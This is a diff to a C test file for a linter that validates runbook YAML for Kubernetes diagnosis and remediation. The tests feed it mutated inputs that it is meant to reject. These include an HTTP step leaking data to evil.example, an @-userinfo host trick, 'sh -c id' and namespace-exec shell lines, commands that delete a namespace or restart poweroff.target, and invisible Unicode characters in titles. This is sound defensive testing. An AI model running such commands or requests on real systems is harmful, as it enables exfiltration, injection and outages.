@@ -27,7 +27,7 @@ static const char good[] =
 	"- {name: namespace, type: k8s-name, required: true}\n"
 	"- {name: unit, type: string, required: true}\n"
 	"- {name: token, type: string, secret: true, from: env, required: true}\n"
-	"requires: {checks: [KRN-001], lock: namespace}\n"
+	"requires: {rbac: [list nodes], lock: namespace}\n"
 	"modes: {default: diagnose, allowed: [diagnose, propose, execute]}\n"
 	"vars: {label: \"${params.namespace}\"}\n"
 	"steps:\n"
@@ -38,7 +38,7 @@ static const char good[] =
 	"  query: {source: flows, filter: {namespace: \"${vars.label}\"}, since: 5m, limit: 100}\n"
 	"  register: drops\n"
 	"  timeout: 30s\n"
-	"  retry: {attempts: 3, base: 2s, on: [timeout]}\n"
+	"  retry: {attempts: 3, base: 2s, backoff: constant}\n"
 	"  evidence: [{name: drops.json, from: drops.rows, redact: default, max: 1MiB}]\n"
 	"- id: second\n"
 	"  title: agents\n"
@@ -144,7 +144,11 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 #define VERIFY                                                                                     \
 	"  verify: {expr: drops.count == 0 and agents.ready, poll: 5s, within: 5m, stable: 3, "    \
 	"sources: 2}\n"
-#define ARGV "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"
+#define PATCH                                                                                      \
+	"{k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {size: "          \
+	"\"${params.unit}\"}}}}"
+#define RESTART(unit) "{command: {argv: [systemctl, restart, \"" unit "\"], output: 1KiB}}"
+#define ARGV          "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"
 
 /* Low itself, before any approval; its way back is not. */
 #define UNDONE_BY_A_DELETION                                                                       \
@@ -208,6 +212,8 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 	"max_fail: 0, do: [{" PATCH_OF("put", "${item.name}") ", rollback: {steps: [{" PATCH_OF(   \
 		"back", "${item.name}") "}]}}]}\n"
 
+#define GATE "- {id: gate, title: t, kind: gate, mutates: false, gate: G-READY, timeout: 5s}\n"
+
 #define AGENTS    "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}"
 #define K8S(args) "kind: k8s\n  mutates: false\n  k8s: {" args "}"
 #define HTTP(url) "kind: http\n  mutates: false\n  http: {url: \"" url "\", output: 1KiB}"
@@ -261,6 +267,7 @@ static const struct {
 	{"RBL-010", "when: drops.count > 0, cause", "when: nothing.count > 0, cause", NULL},
 	{"RBL-010", "label: \"${params.namespace}\"",
 	 "label: \"${params.namespace}${drops.count}\"", NULL},
+	{"RBL-010", "vars: {label", "vars: {late: \"${vars.label}\", label", NULL},
 	{"RBL-010", "- id: choose\n", WITHIN "- id: choose\n", NULL},
 	{"RBL-010", "- id: fix\n", UNDONE_FOR_EACH "- id: fix\n", NULL},
 	{"RBL-011", "source: agents", "source: tea-leaves", NULL},
@@ -272,7 +279,17 @@ static const struct {
 	{"RBL-011", "source: agents, limit", "source: agents, filter: {x: y}, limit", NULL},
 	{"RBL-011", "k8s.patch:", "k8s.exec:", "RBL-017"},
 	{"RBL-011", "patch: {data", "pitch: {data", NULL},
-	{"RBL-011", "KRN-001", "sh -c id", NULL},
+	{"RBL-011", "rbac: [list nodes]", "checks: [sh -c id]", "RBL-035"},
+	{"RBL-035", "rbac: [list nodes]", "checks: [KRN-001]", NULL},
+	{"RBL-035", "rbac: [list nodes]", "capabilities: [CAP_BPF]", NULL},
+	{"RBL-035", "mesh: \">=0.1", "kernel: \">=5.10\", mesh: \">=0.1", NULL},
+	{"RBL-035", "backoff: constant", "on: [timeout]", NULL},
+	{"RBL-035", "backoff: constant", "backoff: exponentail", NULL},
+	{"RBL-035", "kind: decide\n", "kind: decide\n  timeout: 5s\n", NULL},
+	{"RBL-035", "kind: decide\n", "kind: decide\n  on_timeout: abort\n", NULL},
+	{"RBL-035", "kind: decide\n", "kind: decide\n  retry: {attempts: 2, base: 1s}\n", NULL},
+	{"RBL-035", "kind: decide\n", "kind: decide\n  on_error: {action: ask}\n", NULL},
+	{"RBL-035", "- id: fix\n", GATE "- id: fix\n", NULL},
 	{"RBL-011",
 	 "  risk: high\n  precheck: [{expr: drops.count == 0}]\n  op: {k8s.patch: {ref: \"v1 "
 	 "ConfigMap ${params.namespace}/x\", patch: {data: {size: \"${params.unit}\"}}}}\n",
@@ -332,6 +349,12 @@ static const struct {
 	{"RBL-021", ARGV, "argv: [kubectl, delete, ns, x]", NULL},
 	{"RBL-021", ARGV, "argv: [ip, netns, exec, x, sh]", NULL},
 	{"RBL-021", ARGV, "argv: [systemctl, restart, x]", NULL},
+	{"RBL-021", ARGV, "argv: [systemctl, restart, poweroff.target]", NULL},
+	{"RBL-021", PATCH, RESTART("poweroff.target"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("*.service"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("${params.namespace}"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("x${params.unit}.service"), "RBL-017"},
+	{"RBL-017", PATCH, RESTART("x${params.namespace}.service"), NULL},
 	{"RBL-021", ARGV, "argv: [uname, -a, x]", NULL},
 	{"RBL-021", ARGV, "argv: [systemctl, show]", NULL},
 	{"RBL-022", "unit-${params.unit}", "${params.unit}", NULL},
@@ -371,6 +394,8 @@ static const struct {
 	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
 	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://a.b.svc/${drops.rows[0].node}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://localhost/?x=${drops.count}"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), "RBL-010"},
@@ -380,6 +405,12 @@ static const struct {
 	{"RBL-033", "- id: fix\n", ASKS "- id: fix\n", NULL},
 	{"RBL-033", "- id: fix\n", EACH_ASKED "- id: fix\n", NULL},
 	{"RBL-032", "title: agents", "title: \"agents \\u0085\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u2060nts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u00adnts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u180ents\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\ufe0fnts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u3164nts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\U000E0041nts\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents\\nan approval is for plan 0\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents                            way back yes\"",
 	 NULL},
@@ -742,7 +773,7 @@ TEST(a_service_of_the_cluster_may_be_asked)
 {
 	static const char *const urls[] = {HTTP("https://web.${params.namespace}.svc:8443/healthz"),
 					   HTTP("http://a.b.svc.cluster.local"),
-					   HTTP("http://localhost:9090/x?y=${drops.count}")};
+					   HTTP("http://localhost:9090/x?y=${params.unit}")};
 
 	for (size_t i = 0; i < ARRAY_SIZE(urls); i++) {
 		auto_free char *text = edited(AGENTS, urls[i]);
